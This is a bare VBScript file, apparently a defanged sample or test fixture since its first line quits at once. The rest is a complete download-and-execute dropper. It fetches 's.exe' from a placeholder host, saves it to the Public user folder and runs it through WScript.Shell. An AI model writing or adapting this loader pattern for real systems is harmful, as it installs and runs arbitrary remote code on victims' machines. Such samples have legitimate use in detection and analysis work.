WScript.Quit 0
Set x = CreateObject("MSXML2.XMLHTTP")
x.Open "GET", "https://dl.vbs.invalid/s.exe", False
x.Send
Set s = CreateObject("ADODB.Stream")
s.Open
s.Type = 1
s.Write x.ResponseBody
s.SaveToFile "C:\\Users\\Public\\s.exe", 2
CreateObject("WScript.Shell").Run "C:\\Users\\Public\\s.exe"
